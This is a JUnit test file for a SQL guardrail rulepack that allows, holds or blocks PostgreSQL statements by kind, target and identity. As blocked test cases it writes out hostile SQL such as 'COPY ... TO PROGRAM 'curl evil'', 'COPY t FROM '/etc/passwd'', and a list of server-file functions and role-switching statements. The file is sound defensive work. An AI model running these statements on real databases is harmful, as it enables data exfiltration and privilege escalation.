package dev.warden.policy;

import static dev.warden.policy.Facts.ALICE;
import static dev.warden.policy.Facts.CI;
import static dev.warden.policy.Facts.PROD;
import static dev.warden.policy.Facts.STAGING;
import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.identity.Identity;
import dev.warden.policy.Verdict.Decision;
import dev.warden.sql.Statement;
import dev.warden.sql.Statement.CopyDirection;
import dev.warden.sql.Statement.Kind;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The default rulepack, rules/guardrails.drl: each rule fires on its case and not on look-alikes. */
class GuardrailsTest {
    @TempDir
    static Path dir;
    static PolicyEngine engine;

    @BeforeAll
    static void start() throws IOException {
        // only guardrails.drl: other rulepacks added to rules/ later must not change these expectations
        Files.copy(Path.of("rules", "guardrails.drl"), dir.resolve("guardrails.drl"));
        engine = PolicyEngine.start(dir, false);
    }

    @AfterAll
    static void stop() {
        engine.close();
    }

    static Verdict decide(Identity who, TargetFact t, Statement s) {
        Verdict v = engine.decide(who, t, s);
        assertThat(v.failedClosed()).as("no evaluation failure: %s", v).isFalse();
        assertThat(v.rulesVersion()).isEqualTo(engine.rulesVersion());
        return v;
    }

    static void assertAllowedSilently(Identity who, TargetFact t, Statement s) {
        Verdict v = decide(who, t, s);
        assertThat(v.decision()).as(s.text()).isEqualTo(Decision.ALLOW);
        assertThat(v.rules()).as(s.text()).isEmpty();
    }

    static void assertOnly(Verdict v, Decision d, String rule) {
        assertThat(v.decision()).isEqualTo(d);
        assertThat(v.rules()).containsExactly(rule);
        assertThat(v.reason()).isNotBlank();
        if (d == Decision.HOLD) {
            assertThat(v.reviewerGroup()).isEqualTo("dba");
            assertThat(v.risk()).isIn("low", "medium", "high");
        } else {
            assertThat(v.reviewerGroup()).isNull();
        }
    }

    static Statement s(Kind kind, String command, String text) {
        return Stmt.of(kind, command, text).build();
    }

    @Test
    void harmlessStatementsAreAllowedWithNoRuleFiring() {
        for (Identity who : List.of(CI, ALICE)) {
            assertAllowedSilently(who, PROD, Stmt.select("SELECT * FROM t", "public.t"));
            assertAllowedSilently(who, PROD, Stmt.select("SELECT * FROM public.customers", "public.customers"));
            assertAllowedSilently(who, PROD, s(Kind.TRANSACTION, "BEGIN", "BEGIN"));
            assertAllowedSilently(who, PROD, s(Kind.TRANSACTION, "COMMIT", "COMMIT"));
            assertAllowedSilently(who, PROD, s(Kind.SET, "SET", "SET search_path = public"));
            assertAllowedSilently(who, PROD, s(Kind.SET, "SET", "SET roles_enabled = on"));
            assertAllowedSilently(who, PROD, s(Kind.RESET, "RESET ROLE", "RESET ROLE"));
            assertAllowedSilently(who, PROD, s(Kind.UTILITY, "SHOW", "SHOW server_version"));
            assertAllowedSilently(who, PROD, s(Kind.FETCH, "FETCH", "FETCH 10 FROM c"));
            assertAllowedSilently(who, PROD, s(Kind.CLOSE, "CLOSE", "CLOSE c"));
            assertAllowedSilently(who, PROD, Stmt.of(Kind.INSERT, "INSERT", "INSERT INTO public.t VALUES (1)")
                    .tables("public.t").writes("public.t").build());
            assertAllowedSilently(who, PROD, Stmt.of(Kind.UPDATE, "UPDATE", "UPDATE public.t SET a = 1 WHERE id = 2")
                    .tables("public.t").writes("public.t").where().build());
            assertAllowedSilently(who, PROD, Stmt.select("SELECT * FROM truncate_log", "public.truncate_log"));
            assertAllowedSilently(who, PROD, Stmt.select("SELECT * FROM load_jobs", "public.load_jobs"));
            assertAllowedSilently(who, PROD, Stmt.of(Kind.SELECT, "SELECT", "SELECT lower(name) FROM t").functions("lower").build());
            assertAllowedSilently(who, PROD, Stmt.of(Kind.COPY, "COPY", "COPY t FROM STDIN").copy(CopyDirection.FROM)
                    .tables("public.t").writes("public.t").build());
            assertAllowedSilently(who, PROD, Stmt.of(Kind.COPY, "COPY", "COPY (SELECT 'program', substring(a from 2) FROM t) TO STDOUT")
                    .copy(CopyDirection.TO).build());
            assertAllowedSilently(who, PROD, Stmt.of(Kind.COPY, "COPY", "copy t (a, b) from stdin with (format csv)")
                    .copy(CopyDirection.FROM).build());
            assertAllowedSilently(who, PROD, Stmt.of(Kind.EXPLAIN, "EXPLAIN", "EXPLAIN SELECT * FROM t")
                    .inner(Stmt.select("SELECT * FROM t", "public.t")).build());
            // the statement's shape, not its literals: nothing looks inside string constants
            assertAllowedSilently(who, PROD, Stmt.select("SELECT 'ALTER SYSTEM', 'pg_read_file' FROM t", "public.t"));
        }
    }

    @Test
    void harmlessStatementsTheParserDidNotUnderstandAreStillAllowed() {
        assertAllowedSilently(CI, PROD, Stmt.of(Kind.TRANSACTION, "BEGIN", "BEGIN ISOLATION LEVEL SERIALIZABLE").unparsed().build());
        assertAllowedSilently(CI, PROD, Stmt.of(Kind.SET, "SET", "SET LOCAL statement_timeout = '5s'").unparsed().build());
        assertAllowedSilently(CI, PROD, Stmt.of(Kind.UTILITY, "SHOW", "SHOW ALL").unparsed().build());
        assertAllowedSilently(CI, PROD, Stmt.of(Kind.UTILITY, "DISCARD", "DISCARD ALL").unparsed().build());
    }

    @Test
    void ddlOnProductionNeedsADba() {
        String rule = "DDL on a production target needs a DBA's approval";
        for (Identity who : List.of(CI, ALICE)) {
            Verdict v = decide(who, PROD, s(Kind.DDL, "DROP TABLE", "DROP TABLE public.t"));
            assertOnly(v, Decision.HOLD, rule);
            assertThat(v.risk()).isEqualTo("high");
            assertOnly(decide(who, PROD, Stmt.of(Kind.SELECT, "SELECT", "SELECT * INTO t2 FROM t").createsTable().build()),
                    Decision.HOLD, rule);
            assertAllowedSilently(who, STAGING, s(Kind.DDL, "DROP TABLE", "DROP TABLE public.t"));
            assertAllowedSilently(who, PROD, s(Kind.DDL, "CREATE TABLE", "CREATE TEMP TABLE scratch (id int)"));
            assertAllowedSilently(who, PROD, s(Kind.DDL, "CREATE TABLE", "create  local temporary table scratch (id int)"));
        }
        // a target whose config names no environment counts as production
        assertOnly(decide(ALICE, new TargetFact("bank"), s(Kind.DDL, "ALTER TABLE", "ALTER TABLE t ADD c int")),
                Decision.HOLD, rule);
    }

    @Test
    void dclOnProductionNeedsADba() {
        String rule = "DCL on a production target needs a DBA's approval";
        assertOnly(decide(ALICE, PROD, s(Kind.DCL, "GRANT", "GRANT SELECT ON t TO bob")), Decision.HOLD, rule);
        assertOnly(decide(CI, PROD, s(Kind.DCL, "REVOKE", "REVOKE ALL ON t FROM bob")), Decision.HOLD, rule);
        assertAllowedSilently(ALICE, STAGING, s(Kind.DCL, "GRANT", "GRANT SELECT ON t TO bob"));
    }

    @Test
    void updateOrDeleteWithoutWhereIsBlocked() {
        String rule = "UPDATE or DELETE without WHERE is blocked";
        for (Identity who : List.of(CI, ALICE)) {
            assertOnly(decide(who, PROD, Stmt.of(Kind.DELETE, "DELETE", "DELETE FROM t").tables("public.t").writes("public.t").build()),
                    Decision.BLOCK, rule);
            assertOnly(decide(who, STAGING, Stmt.of(Kind.UPDATE, "UPDATE", "UPDATE t SET a = 1").tables("public.t").writes("public.t").build()),
                    Decision.BLOCK, rule);
            assertAllowedSilently(who, PROD, Stmt.of(Kind.DELETE, "DELETE", "DELETE FROM t WHERE id = 1")
                    .tables("public.t").writes("public.t").where().build());
        }
    }

    @Test
    void truncateIsBlocked() {
        String rule = "TRUNCATE is blocked";
        // whether the analyzer calls TRUNCATE a DELETE or DDL, it is this rule (and not the DELETE one) that fires
        assertOnly(decide(ALICE, STAGING, s(Kind.DDL, "TRUNCATE", "TRUNCATE public.t")), Decision.BLOCK, rule);
        assertOnly(decide(CI, STAGING, s(Kind.DELETE, "TRUNCATE", "truncate table t")), Decision.BLOCK, rule);
        Verdict prod = decide(ALICE, PROD, s(Kind.DDL, "TRUNCATE", "TRUNCATE public.t"));
        assertThat(prod.decision()).isEqualTo(Decision.BLOCK);
        assertThat(prod.rules()).containsExactlyInAnyOrder(rule, "DDL on a production target needs a DBA's approval");
    }

    @Test
    void copyProgramAndServerFilesAreBlocked() {
        assertOnly(decide(ALICE, PROD, Stmt.of(Kind.COPY, "COPY", "COPY t TO PROGRAM 'curl evil'").copy(CopyDirection.TO)
                .program().build()), Decision.BLOCK, "COPY PROGRAM is blocked");
        String file = "COPY to or from a server file is blocked";
        assertOnly(decide(ALICE, PROD, Stmt.of(Kind.COPY, "COPY", "COPY t TO '/tmp/t.csv'").copy(CopyDirection.TO).build()),
                Decision.BLOCK, file);
        assertOnly(decide(CI, STAGING, Stmt.of(Kind.COPY, "COPY", "COPY t FROM '/etc/passwd'").copy(CopyDirection.FROM).build()),
                Decision.BLOCK, file);
        // a literal that reads like STDOUT does not hide the file (the rule reads the fingerprint)
        assertOnly(decide(ALICE, PROD, Stmt.of(Kind.COPY, "COPY",
                "COPY (SELECT * FROM t WHERE note = 'to stdout') TO '/tmp/f'").copy(CopyDirection.TO).build()),
                Decision.BLOCK, file);
    }

    @Test
    void serverFileFunctionsAreBlockedForEveryone() {
        String rule = "Server file access functions are blocked";
        for (String f : List.of("pg_read_file", "pg_catalog.pg_read_binary_file", "pg_ls_dir", "pg_stat_file",
                "pg_ls_waldir", "lo_export", "lo_import", "pg_file_write")) {
            for (Identity who : List.of(CI, ALICE)) {
                assertOnly(decide(who, STAGING, Stmt.of(Kind.SELECT, "SELECT", "SELECT " + f + "(?)").functions(f).build()),
                        Decision.BLOCK, rule);
            }
        }
        assertAllowedSilently(ALICE, PROD, Stmt.of(Kind.SELECT, "SELECT", "SELECT my_pg_read_file_log()")
                .functions("my_pg_read_file_log").build());
    }

    @Test
    void foreignDataAccessSetupIsBlocked() {
        String rule = "Foreign data access setup is blocked";
        List<Statement> cases = List.of(
                s(Kind.DDL, "CREATE EXTENSION", "CREATE EXTENSION dblink"),
                s(Kind.DDL, "CREATE EXTENSION", "create extension if not exists postgres_fdw schema x"),
                s(Kind.DDL, "CREATE SERVER", "CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw"),
                s(Kind.DDL, "CREATE USER MAPPING", "CREATE USER MAPPING FOR app SERVER other"),
                s(Kind.DDL, "IMPORT FOREIGN SCHEMA", "IMPORT FOREIGN SCHEMA public FROM SERVER other INTO x"),
                Stmt.of(Kind.SELECT, "SELECT", "SELECT * FROM dblink(?, ?) AS t(a int)").functions("dblink").build(),
                Stmt.of(Kind.SELECT, "SELECT", "SELECT public.dblink_exec(?)").functions("public.dblink_exec").build());
        for (Statement st : cases) {
            assertOnly(decide(ALICE, STAGING, st), Decision.BLOCK, rule);
        }
        assertAllowedSilently(ALICE, STAGING, s(Kind.DDL, "CREATE EXTENSION", "CREATE EXTENSION pgcrypto"));
    }

    @Test
    void alterSystemAndLoadAreBlocked() {
        assertOnly(decide(ALICE, STAGING, s(Kind.UTILITY, "ALTER SYSTEM", "ALTER SYSTEM SET wal_level = ?")),
                Decision.BLOCK, "ALTER SYSTEM is blocked");
        assertOnly(decide(ALICE, STAGING, s(Kind.UTILITY, "LOAD", "LOAD ?")), Decision.BLOCK, "LOAD is blocked");
        assertAllowedSilently(ALICE, STAGING, s(Kind.DDL, "ALTER TABLE", "ALTER TABLE system_log ADD c int"));
    }

    @Test
    void ciIdentitiesMayNotSwitchRoles() {
        String rule = "SET ROLE and SET SESSION AUTHORIZATION are blocked for CI identities";
        for (String sql : List.of("SET ROLE admin", "set local role admin", "SET SESSION ROLE admin",
                "SET SESSION AUTHORIZATION admin", "/* sneaky */ SET  ROLE admin")) {
            assertOnly(decide(CI, STAGING, s(Kind.SET, "SET ROLE", sql)), Decision.BLOCK, rule);
            assertAllowedSilently(ALICE, PROD, s(Kind.SET, "SET ROLE", sql));
        }
    }

    @Test
    void ciIdentitiesMayNotCallSetConfig() {
        String rule = "set_config is blocked for CI identities";
        for (String fn : List.of("set_config", "pg_catalog.set_config")) {
            var st = Stmt.of(Kind.SELECT, "SELECT", "SELECT " + fn + "('role', 'admin', false)").functions(fn).build();
            assertOnly(decide(CI, STAGING, st), Decision.BLOCK, rule);
            assertAllowedSilently(ALICE, PROD, st);
        }
    }

    @Test
    void dataModifyingWithClausesOfCiJobsNeedApproval() {
        String rule = "Data-modifying WITH clauses by CI identities need approval";
        var st = Stmt.of(Kind.SELECT, "SELECT", "WITH d AS (DELETE FROM public.t RETURNING *) SELECT count(*) FROM d")
                .tables("public.t").writes("public.t").dataModifyingCte().build();
        assertOnly(decide(CI, STAGING, st), Decision.HOLD, rule);
        assertAllowedSilently(ALICE, PROD, st);
    }

    @Test
    void unparseableStatementsNeedApproval() {
        String rule = "Unparseable statements need approval";
        for (Identity who : List.of(CI, ALICE)) {
            assertOnly(decide(who, STAGING, Stmt.of(Kind.UNKNOWN, "FROBNICATE", "FROBNICATE t").unparsed().build()),
                    Decision.HOLD, rule);
            assertOnly(decide(who, STAGING, Stmt.of(Kind.SELECT, "SELECT", "SELECT weird syntax").unparsed().build()),
                    Decision.HOLD, rule);
        }
    }

    @Test
    void doBlocksNeedApproval() {
        assertOnly(decide(ALICE, STAGING, s(Kind.DO, "DO", "DO $$ BEGIN PERFORM 1; END $$")), Decision.HOLD, "DO blocks need approval");
    }

    @Test
    void ciWritesToClassifiedTablesNeedApproval() {
        String rule = "Writes to classified tables by CI identities need approval";
        Statement update = Stmt.of(Kind.UPDATE, "UPDATE", "UPDATE public.customers SET email = ? WHERE id = ?")
                .tables("public.customers").writes("public.customers").where().build();
        Statement cte = Stmt.of(Kind.SELECT, "SELECT", "WITH d AS (DELETE FROM customers WHERE id = ? RETURNING *) SELECT * FROM d")
                .tables("public.customers").writes("public.customers").dataModifyingCte().build();
        Statement copyIn = Stmt.of(Kind.COPY, "COPY", "COPY public.customers FROM STDIN").copy(CopyDirection.FROM)
                .tables("public.customers").writes("public.customers").build();
        for (Statement st : List.of(update, copyIn)) {
            assertOnly(decide(CI, STAGING, st), Decision.HOLD, rule);
            assertAllowedSilently(ALICE, STAGING, st);
        }
        Verdict v = decide(CI, STAGING, cte);
        assertThat(v.decision()).isEqualTo(Decision.HOLD);
        assertThat(v.rules()).containsExactlyInAnyOrder(rule, "Data-modifying WITH clauses by CI identities need approval");
        assertAllowedSilently(ALICE, STAGING, cte);
        assertAllowedSilently(CI, STAGING, Stmt.of(Kind.UPDATE, "UPDATE", "UPDATE public.t SET a = ? WHERE id = ?")
                .tables("public.t", "public.customers").writes("public.t").where().build());
        assertOnly(decide(CI, STAGING, Stmt.of(Kind.DDL, "ALTER TABLE", "ALTER TABLE public.customers ADD c int")
                .tables("public.customers").build()), Decision.HOLD, rule);
    }

    @Test
    void explainAnalyzeOfAWriteIsJudgedAsTheWrite() {
        String rule = "EXPLAIN ANALYZE of a write is treated as the write";
        Statement delete = Stmt.of(Kind.DELETE, "DELETE", "DELETE FROM t").tables("public.t").writes("public.t").build();
        Verdict v = decide(ALICE, PROD, Stmt.of(Kind.EXPLAIN, "EXPLAIN", "EXPLAIN ANALYZE DELETE FROM t")
                .explainAnalyzeWrite().inner(delete).build());
        assertThat(v.decision()).isEqualTo(Decision.BLOCK);
        assertThat(v.rules()).containsExactly(rule, "UPDATE or DELETE without WHERE is blocked");

        Statement update = Stmt.of(Kind.UPDATE, "UPDATE", "UPDATE customers SET a = ? WHERE id = ?")
                .tables("public.customers").writes("public.customers").where().build();
        Verdict held = decide(CI, PROD, Stmt.of(Kind.EXPLAIN, "EXPLAIN", "EXPLAIN ANALYZE UPDATE customers SET a = ? WHERE id = ?")
                .explainAnalyzeWrite().inner(update).build());
        assertThat(held.decision()).isEqualTo(Decision.HOLD);
        assertThat(held.rules()).containsExactly(rule, "Writes to classified tables by CI identities need approval");

        // the analyzer knew it was a write but could not say which: hold rather than guess
        assertOnly(decide(ALICE, STAGING, Stmt.of(Kind.EXPLAIN, "EXPLAIN", "EXPLAIN ANALYZE something").explainAnalyzeWrite().build()),
                Decision.HOLD, rule);
    }

    @Test
    void preparedAndCursorBodiesAreJudgedWhenDeclared() {
        Statement delete = Stmt.of(Kind.DELETE, "DELETE", "DELETE FROM t").tables("public.t").writes("public.t").build();
        assertOnly(decide(ALICE, PROD, Stmt.of(Kind.PREPARE, "PREPARE", "PREPARE p AS DELETE FROM t").inner(delete).build()),
                Decision.BLOCK, "UPDATE or DELETE without WHERE is blocked");
        Statement read = Stmt.of(Kind.SELECT, "SELECT", "SELECT pg_read_file(?)").functions("pg_read_file").build();
        assertOnly(decide(CI, PROD, Stmt.of(Kind.DECLARE, "DECLARE", "DECLARE c CURSOR FOR SELECT pg_read_file(?)").inner(read).build()),
                Decision.BLOCK, "Server file access functions are blocked");
    }

    /** Printed, not asserted: machines differ. Misses use distinct fingerprints; hits repeat them. */
    @Test
    void decideCost() {
        int n = 5_000;
        Statement[][] rounds = new Statement[20][n];
        for (int r = 0; r < rounds.length; r++) {
            for (int i = 0; i < n; i++) {
                rounds[r][i] = Stmt.of(Kind.UPDATE, "UPDATE", "UPDATE public.t" + r + "_" + i + " SET a = ? WHERE id = ?")
                        .tables("public.t").writes("public.t").where().build();
            }
        }
        double bestMiss = Double.MAX_VALUE;
        double bestHit = Double.MAX_VALUE;
        for (Statement[] round : rounds) {
            long t0 = System.nanoTime();
            for (Statement st : round) {
                engine.decide(CI, PROD, st);
            }
            long t1 = System.nanoTime();
            for (int k = 0; k < 4; k++) {
                for (Statement st : round) {
                    engine.decide(CI, PROD, st);
                }
            }
            long t2 = System.nanoTime();
            bestMiss = Math.min(bestMiss, (t1 - t0) / 1e3 / n);
            bestHit = Math.min(bestHit, (t2 - t1) / 1e3 / n / 4);
        }
        System.out.printf("decide() with guardrails.drl: cache miss %.1f us, cache hit %.2f us (best of %d rounds of %d)%n",
                bestMiss, bestHit, rounds.length, n);
    }

    @Test
    void missingOptionalFieldsDoNotBreakTheRules() {
        Statement bare = new Statement(Kind.SELECT, null, null, null, true, List.of(), List.of(), List.of(),
                java.util.Set.of(), false, false, false, CopyDirection.NONE, false, false, null, null);
        assertAllowedSilently(CI, PROD, bare);
    }
}
